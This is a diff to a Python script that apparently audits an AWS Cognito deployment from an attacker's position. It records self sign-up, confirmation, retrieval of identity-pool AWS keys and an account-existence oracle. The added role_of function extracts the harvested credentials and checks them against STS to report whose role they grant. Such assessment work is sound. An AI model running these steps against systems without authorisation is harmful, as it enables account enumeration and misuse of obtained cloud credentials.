@@ -2,6 +2,7 @@
 
 import json
 import os
+import re
 import subprocess
 import tempfile
 import urllib.request
@@ -51,6 +52,12 @@ def scan(command, **options):
     return refused or done.stdout
 
 
+def role_of(printed):
+    """Whose credentials a command has printed, as STS says: they work."""
+    session = boto3.Session(*re.findall(r"export AWS_\w+=(\S+)", printed), REGION)
+    return session.client("sts").get_caller_identity()["Arn"].split("/")[1]
+
+
 def tried():
     """Each command, with what an attacker has: the app client's id, which is no secret."""
     person = {"username": "rook", "password": PASSWORD}
@@ -65,7 +72,7 @@ def tried():
     return {
         "account-creation": "made" if "UserSub" in created else created,
         "confirm-sign-up": "confirmed" if "User confirmed" in confirmed else confirmed,
-        "get-identity-pool-keys": "keys" if "AWS_SESSION_TOKEN=" in keys else keys,
+        "get-identity-pool-keys": role_of(keys) if "AWS_SESSION_TOKEN=" in keys else keys,
         "account-oracle": " ".join(found).strip(),
     }
 
